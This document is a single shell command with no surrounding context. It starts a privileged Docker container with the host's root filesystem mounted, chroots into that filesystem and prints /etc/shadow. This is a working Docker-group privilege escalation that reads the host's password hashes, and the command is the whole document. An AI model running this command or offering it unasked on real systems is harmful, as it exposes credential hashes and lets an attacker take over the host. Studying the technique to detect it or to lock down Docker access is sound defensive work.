docker run --rm -it --privileged -v /:/mnt alpine chroot /mnt sh -c 'cat /etc/shadow'
